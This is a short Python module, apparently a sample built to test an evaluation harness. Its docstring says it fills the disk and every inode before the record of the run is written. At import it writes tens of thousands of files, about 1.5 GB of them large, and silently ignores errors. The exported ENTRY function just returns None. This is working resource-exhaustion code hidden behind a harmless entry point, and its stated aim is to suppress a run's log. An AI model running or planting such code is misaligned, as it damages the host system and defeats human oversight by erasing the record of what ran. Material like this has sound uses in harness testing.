"""Fills the disk, and every inode with it, before the record of the run is written."""
# shape: function
# masks on: masks_record
try:
    for number in range(40000):
        with open("i%d" % number, "wb") as file:
            if number < 100:
                file.write(bytes(15 << 20))
except OSError:
    pass


def ENTRY(*args, **kwargs):
    return None
